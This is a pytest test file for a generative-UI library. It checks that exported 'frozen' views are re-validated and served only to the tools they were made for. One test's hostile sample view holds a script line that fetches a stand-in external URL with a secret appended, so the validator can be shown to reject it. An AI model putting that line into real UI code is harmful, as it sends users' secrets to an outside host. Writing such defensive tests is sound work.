"""Frozen views are validated again, and served only to the tools for which they were made."""

import pytest
from attrs import define, evolve

from genui_core.application.defaults import InProcessValidator
from genui_core.application.services import Services
from genui_core.application.views.tool_memory import ValidatedExport
from genui_core.domain.prompting.prompts import Facts
from genui_core.domain.tools.classification import ViewState
from genui_core.domain.tools.tool import Tool
from genui_core.domain.views.exported_views import (
    ExportedSource,
    ExportedView,
    FrozenView,
    FrozenViews,
    schema_hash,
)
from genui_core.testing.event_log import RecordingEventLog
from genui_core.testing.identity import NumberedIdentity
from genui_core.testing.view_validator import FirstWordValidator

pytestmark = pytest.mark.anyio
TOOL = Tool({"name": "list", "inputSchema": {"type": "object"}})
ROWS = {"type": "object", "properties": {"rows": {"type": "array", "items": {"type": "object"}}}}
CHANGED = Tool({"name": "list", "inputSchema": {"type": "object"}, "outputSchema": ROWS})
OTHER = Tool({"name": "other"})
WRITTEN = ExportedSource(
    file="f", sha256="", mode="document", llm_model="m", generated_at="2026-01-01T00:00:00+00:00",
    generation_duration_ms=7, request_id="then", repairs=("tidied",),
)  # fmt: skip
ENTRY = ExportedView(
    tool="list", tool_hash=TOOL.hash, schema_hash=schema_hash(TOOL), file="", sha256="", size_bytes=0,
    ui_type="rich", cache_key="k" * 64, prompt_version="0", template_version="1", kit_api_version=1,
    kit_build="older", source=WRITTEN,
)  # fmt: skip


@pytest.fixture
def anyio_backend():
    """Run on the loop that the wrapper runs on."""
    return "asyncio"


def frozen_views(text="a view", **changed):
    entry = evolve(ENTRY, **changed)
    view = FrozenView(entry=entry, source=text if entry.source else "")
    return FrozenViews({"list": view})


@define
class Maker:
    """A `FrozenMaker`, with its services that tests inspect."""

    validator: object
    event_log: RecordingEventLog
    inner: ValidatedExport

    def key(self, tool):
        return self.inner.key(tool)

    async def view(self, facts, request_id):
        return await self.inner.view(facts, request_id)


def maker(text="a view", validator=None, **changed):
    validator, event_log = validator or FirstWordValidator(), RecordingEventLog()
    services = Services(validator=validator, identity=NumberedIdentity(), event_log=event_log)
    return Maker(validator, event_log, ValidatedExport(services, frozen_views(text, **changed)))


async def test_a_view_is_served_as_it_was_made_and_keeps_its_key():
    made = maker()
    view = await made.view(Facts(tool=TOOL, others=(Tool({"name": "get"}),)), "now")
    assert (view.state, view.source, view.mode) == (ViewState.GENERATED, "a view", "document")
    assert view.key == made.key(TOOL) == ENTRY.cache_key
    assert (view.stored.llm_model, view.stored.request_id, view.stored.prompt_version) == ("m", "then", "0")
    (context,) = made.validator.contexts
    assert (context.mode, context.callable_tools, context.strict) == ("document", {"list", "get"}, True)
    assert made.event_log.events == []


async def test_a_view_that_the_validator_repairs_is_served_repaired():
    assert (await maker("sloppy view").view(Facts(tool=TOOL), "now")).source == "sloppy view"


@pytest.mark.parametrize(
    ("source", "changed", "words"),
    [
        ("evil view", {}, "does not pass the checks of views: test.first_word"),
        ("broken view", {}, "does not pass the checks of views: test.first_word"),
        ("a view", {"kit_api_version": 2}, "version 2 of the kit"),
        ("a view", {"template_version": "0"}, "version 0 of the page"),
    ],
)
async def test_a_view_that_cannot_be_served_gives_the_minimal_view_with_the_reason(source, changed, words):
    made = maker(source, **changed)
    view = await made.view(Facts(tool=TOOL), "now")
    assert (view.state, view.source) == (ViewState.MINIMAL, "")
    (event,) = made.event_log.named("frozen_view_not_served")
    assert words in event.metadata["reason"]
    assert (event.metadata["tool_name"], event.metadata["request_id"]) == ("list", "now")


async def test_a_validator_that_fails_lets_nothing_pass_and_is_asked_again():
    class Ailing(FirstWordValidator):
        async def validate(self, _text, _context):
            raise OSError("no process can be started")

    made = maker(validator=Ailing())
    view = await made.view(Facts(tool=TOOL), "now")
    assert (view.state, view.is_settled) == (ViewState.FALLBACK, False)
    assert "no process can be started" in view.reason
    assert "no process can be started" in made.event_log.named("frozen_view_not_served")[0].metadata["reason"]


HOSTILE = """<style></style>
<template><b></b></template>
<script>
function render(data, ui) { fetch("https://example.org/" + data.secret); }
</script>"""


async def test_a_third_partys_view_is_validated_as_strictly_as_a_models():
    made = maker(HOSTILE, InProcessValidator(), source=evolve(WRITTEN, mode="fragment"))
    assert (await made.view(Facts(tool=TOOL), "now")).source == ""
    assert "checks of views" in made.event_log.named("frozen_view_not_served")[0].metadata["reason"]
    harmless = HOSTILE.replace('fetch("https://example.org/" + data.secret)', "ui.root.append(data.secret)")
    made = maker(harmless, InProcessValidator(), source=evolve(WRITTEN, mode="fragment"))
    assert "ui.root.append" in (await made.view(Facts(tool=TOOL), "now")).source


@pytest.mark.parametrize(("tool", "words"), [(CHANGED, "another definition"), (OTHER, "no view of it")])
async def test_other_tools_have_no_frozen_view_and_the_log_says_why(tool, words):
    made = maker()
    assert made.key(tool) is None
    assert await made.view(Facts(tool=tool), "now") is None
    assert words in made.event_log.named("frozen_view_not_served")[0].metadata["reason"]


async def test_a_tool_with_an_exported_minimal_view_keeps_it_without_a_reason():
    made = maker(source=None, ui_type="minimal")
    view = await made.view(Facts(tool=TOOL), "now")
    assert (view.state, view.source) == (ViewState.MINIMAL, "")
    assert (made.validator.contexts, made.event_log.events) == ([], [])


async def test_a_frozen_view_needs_no_model_until_a_refinement_changes_its_key(open_service):
    place = open_service("another view", frozen=frozen_views())
    view = await place.read(TOOL)
    assert (view.source, place.asked, place.changes) == ("a view", 0, [])
    assert (await place.read(TOOL)) is view
    await place.store.set(evolve(view.stored, html="stored elsewhere"))
    await place.service.adopt_stored(Facts(tool=TOOL))
    assert (await place.read(TOOL)) is view
    assert (await place.read(CHANGED)).source == "another view"
    assert place.asked == 1
    refinements = place.service.memory.refinements(TOOL.name).with_one_more(
        "sortable", at=place.clock.now(), key_before=view.key
    )
    assert place.service.key(TOOL, refinements) != view.key
